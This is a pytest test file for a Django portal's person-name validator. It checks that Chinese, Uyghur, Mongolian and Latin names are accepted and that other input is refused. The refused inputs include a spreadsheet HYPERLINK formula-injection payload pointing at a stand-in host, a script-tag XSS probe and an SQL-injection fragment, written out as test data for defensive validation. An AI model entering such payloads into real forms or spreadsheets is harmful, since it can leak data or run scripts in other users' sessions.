"""Issue 13, item 5: names are made of name characters."""

from __future__ import annotations

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse

from portal.accounts.models import User
from portal.accounts.validators import validate_person_name
from tests.factories import valid_id_number


@pytest.mark.parametrize("typed,stored", [
    ("张建华", "张建华"), ("张 建华", "张建华"), ("古丽娜尔·艾买提", "古丽娜尔·艾买提"),
    ("古丽娜尔・艾买提", "古丽娜尔·艾买提"), ("努尔兰 · 别克", "努尔兰·别克"), ("𪚥华", "𪚥华"),
    ("John  Smith", "John Smith"), ("ئابدۇرېھىم ئابلىمىت", "ئابدۇرېھىم ئابلىمىت"), ("ᠪᠠᠲᠤ", "ᠪᠠᠲᠤ"),
])
def test_name_characters_are_accepted(typed, stored):
    assert validate_person_name(typed) == stored


@pytest.mark.parametrize("typed", ['=HYPERLINK("http://evil.invalid/?"&D5,"巴州建筑设计研究院")', "<script>alert(1)</script>",
                                   "=2+3", "张三1", "@张三", "·张三", "张三·", "张三; DROP", "-张三"])
def test_other_characters_are_refused(typed):
    with pytest.raises(ValidationError) as refused:
        validate_person_name(typed)
    assert "姓名只能包含汉字、间隔号" in refused.value.messages[0]


@pytest.mark.django_db
@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.invalid/","x")', "<script>alert(1)</script>"])
def test_registration_refuses_a_name_that_is_not_a_name(client, name):
    number = valid_id_number()
    response = client.post(reverse("accounts:register"), {
        "real_name": name, "id_number": number, "phone": "13912345678",
        "password1": "Tian-shan-2026", "password2": "Tian-shan-2026"})
    assert response.status_code == 200 and "姓名只能包含汉字" in response.content.decode()
    assert not User.objects.filter(id_number=number).exists()


@pytest.mark.django_db
def test_the_basic_information_name_field_takes_name_characters_only(reference):
    from applications.enums import Section
    from tests.applications.test_section_forms import editor_for, errors, sample
    from tests.factories import ApplicationFactory

    app = ApplicationFactory()
    data = sample(app)[Section.BASIC]
    for typed in ('=HYPERLINK("http://evil.invalid/","x")', "<script>alert(1)</script>"):
        assert "姓名只能包含汉字" in errors(app, Section.BASIC, dict(data, name=typed))
    User.objects.filter(pk=app.applicant.pk).update(real_name="古丽娜尔·艾买提")
    app.applicant.refresh_from_db()
    editor = editor_for(app, Section.BASIC, dict(sample(app)[Section.BASIC], name="古丽娜尔・艾买提"))
    assert editor.is_valid(), editor.error_messages()
    assert editor.to_json()["name"] == "古丽娜尔·艾买提"
